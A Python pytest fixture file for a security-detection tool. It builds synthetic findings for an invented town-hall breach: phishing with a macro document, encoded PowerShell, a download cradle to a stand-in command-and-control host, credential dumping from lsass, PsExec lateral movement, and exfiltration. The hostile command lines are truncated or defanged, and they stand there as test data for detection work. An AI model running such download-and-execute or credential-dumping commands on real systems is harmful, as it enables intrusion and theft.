"""An incident in an invented town hall, and a factory for single findings."""

from __future__ import annotations

from collections.abc import Callable, Sequence
from datetime import datetime

import pytest

from noroshi.lang import Message
from noroshi.model import Entity, EntityType, Evidence, Finding, Severity, finding_id

MakeFinding = Callable[..., Finding]


def _time(text: str) -> int:
    return int(datetime.fromisoformat(text).timestamp()) * 1_000_000


def _make(
    rule: str = "rule",
    time: int | str = "2026-11-20T09:00:00+09:00",
    hosts: Sequence[str] = ("pc01",),
    severity: Severity = Severity.HIGH,
    entities: Sequence[tuple[str, str]] = (),
    tactics: Sequence[str] = ("execution",),
    techniques: Sequence[str] = (),
    fields: Sequence[tuple[str, str]] = (),
    analytic: str = "sigma",
    count: int = 1,
    minutes: int = 0,
    title: str = "",
    score: float = 0.8,
    subject: str | None = None,
    salt: str = "",
    class_name: str = "process_activity",
) -> Finding:
    first = _time(time) if isinstance(time, str) else time
    last = first + minutes * 60_000_000
    who = (hosts[0] if hosts else "") if subject is None else subject
    identity = finding_id(analytic, rule, who, f"{first}{salt}")
    evidence = tuple(
        Evidence(
            f"{identity[:24]}{number:08x}",
            class_name,
            first + (last - first) * number // max(1, count - 1),
            hosts[0] if hosts else "",
            tuple(fields),
        )
        for number in range(min(count, 20))
    )
    return Finding(
        id=identity,
        analytic=analytic,
        rule_id=rule,
        title=title or rule.capitalize(),
        severity=severity,
        score=score,
        subject=who,
        first=first,
        last=last,
        count=count,
        explanation=Message("A fixture says so."),
        disproof=Message("A fixture says otherwise."),
        next_steps=(Message("Look at the fixture."),),
        techniques=tuple(techniques),
        tactics=tuple(tactics),
        hosts=tuple(hosts),
        entities=tuple(Entity(EntityType(kind), value) for kind, value in entities),
        evidence=evidence,
        author="Noroshi tests",
        licence="Apache-2.0",
        references=("https://rules.example/about",),
    )


@pytest.fixture(scope="session")
def make_finding() -> MakeFinding:
    return _make


@pytest.fixture(scope="session")
def incident() -> tuple[Finding, ...]:
    """Mail, macro, PowerShell, credential theft, lateral movement, exfiltration; and a dull day."""
    day = "2026-11-20T"
    tanaka = ("user", "k-tanaka")
    admin = ("user", "svc-backup")
    c2 = ("address", "203.0.113.57")
    c2_name = ("domain", "cdn-update.example")
    story = [
        _make(
            "mail-macro",
            day + "08:52:11+09:00",
            ("mail-gw",),
            Severity.MEDIUM,
            [
                ("mail", "k-tanaka@misaki.example"),
                ("mail", "billing@parcel-info.example"),
                ("hash", "ab" * 32),
            ],
            ("initial-access",),
            ("T1566.001",),
            [("subject", "【至急】請求書の確認"), ("attachment", "請求書_1120.docm")],
            title="Mail with a macro document from a new sender",
            class_name="email_activity",
        ),
        _make(
            "office-child",
            day + "09:03:40+09:00",
            ("pc-somu-07",),
            Severity.HIGH,
            [tanaka, ("process", "a1" * 16), ("process", "a2" * 16)],
            ("execution",),
            ("T1204.002", "T1059.001"),
            [
                ("ParentImage", r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"),
                ("Image", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"),
                ("CommandLine", "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwA…"),
            ],
            title="Office program starts a shell",
        ),
        _make(
            "ps-download",
            day + "09:03:52+09:00",
            ("pc-somu-07",),
            Severity.HIGH,
            [tanaka, ("process", "a2" * 16), c2, c2_name],
            ("execution", "command-and-control"),
            ("T1059.001", "T1105"),
            [("ScriptBlockText", "IEX (New-Object Net.WebClient).DownloadString('hxxp://…')")],
            title="PowerShell downloads and runs code",
        ),
        _make(
            "indicator-c2",
            day + "09:04:02+09:00",
            ("proxy",),
            Severity.HIGH,
            [("address", "192.168.20.47"), c2, c2_name, ("url", "http://cdn-update.example/a")],
            ("command-and-control",),
            ("T1071.001",),
            [("c-uri", "http://cdn-update.example/a"), ("cs-host", "cdn-update.example")],
            analytic="indicator",
            count=212,
            minutes=415,
            title="Known bad domain was contacted",
            class_name="http_activity",
            score=0.9,
        ),
        _make(
            "run-key",
            day + "09:09:15+09:00",
            ("pc-somu-07",),
            Severity.MEDIUM,
            [tanaka, ("process", "a2" * 16), ("file", r"c:\users\k-tanaka\appdata\upd.exe")],
            ("persistence",),
            ("T1547.001",),
            [("TargetObject", r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run\Updater")],
            title="Program starts itself at every logon",
            class_name="registry_activity",
        ),
        _make(
            "discovery-burst",
            day + "10:21:00+09:00",
            ("pc-somu-07",),
            Severity.LOW,
            [tanaka, ("process", "a3" * 16)],
            ("discovery",),
            ("T1087.002", "T1018"),
            [("CommandLine", 'net group "Domain Admins" /domain')],
            title="Account and network discovery commands",
            count=9,
            minutes=12,
        ),
        _make(
            "lsass-dump",
            day + "11:42:30+09:00",
            ("pc-somu-07",),
            Severity.CRITICAL,
            [tanaka, ("process", "a4" * 16)],
            ("credential-access",),
            ("T1003.001",),
            [
                ("TargetImage", r"C:\Windows\System32\lsass.exe"),
                ("GrantedAccess", "0x1fffff"),
                ("SourceImage", r"C:\Users\k-tanaka\AppData\Local\Temp\upd.exe"),
            ],
            title="Memory of the logon process was read",
            score=0.9,
        ),
        _make(
            "psexec",
            day + "13:15:05+09:00",
            ("fs01",),
            Severity.HIGH,
            [admin, ("host", "pc-somu-07"), ("address", "192.168.20.47")],
            ("lateral-movement", "execution"),
            ("T1569.002", "T1021.002"),
            [("ServiceName", "PSEXESVC"), ("ServiceFileName", r"%SystemRoot%\PSEXESVC.exe")],
            title="Service for remote execution was installed",
            count=2,
            minutes=1,
        ),
        _make(
            "psexec",
            day + "13:31:47+09:00",
            ("db-jumin",),
            Severity.HIGH,
            [admin, ("host", "fs01"), ("address", "192.168.30.11")],
            ("lateral-movement", "execution"),
            ("T1569.002", "T1021.002"),
            [("ServiceName", "PSEXESVC"), ("ServiceFileName", r"%SystemRoot%\PSEXESVC.exe")],
            title="Service for remote execution was installed",
            count=2,
            minutes=1,
        ),
        _make(
            "archive",
            day + "14:20:10+09:00",
            ("fs01",),
            Severity.MEDIUM,
            [admin, ("process", "b1" * 16), ("file", r"d:\share\tmp\a.7z")],
            ("collection",),
            ("T1560.001",),
            [("CommandLine", r"7z a -p D:\share\tmp\a.7z D:\share\juminzei\*")],
            title="Many files packed with a password",
        ),
        _make(
            "upload",
            day + "15:02:33+09:00",
            ("fw01",),
            Severity.HIGH,
            [("address", "192.168.30.11"), c2],
            ("exfiltration",),
            ("T1041",),
            [("dst", "203.0.113.57"), ("sent", "1288490188")],
            title="Large upload to an unusual address",
            count=3,
            minutes=22,
            class_name="network_activity",
            score=0.7,
        ),
    ]
    dull = [
        _make(
            "whoami",
            f"{day}{8 + n:02}:15:00+09:00",
            (f"pc-zeimu-{n:02}",),
            Severity.LOW,
            [("user", f"staff{n:02}")],
            ("discovery",),
            ("T1033",),
            [("CommandLine", "whoami /groups")],
            title="User asks for his own rights",
        )
        for n in range(1, 9)
    ] + [
        _make(
            "usb",
            day + "16:40:00+09:00",
            ("pc-kyoiku-02",),
            Severity.MEDIUM,
            [("user", "m-sato")],
            ("exfiltration",),
            ("T1052.001",),
            [("DeviceDescription", "USB Mass Storage")],
            title="Files copied to a removable disk",
            score=0.5,
        )
    ]
    return tuple(story + dull)
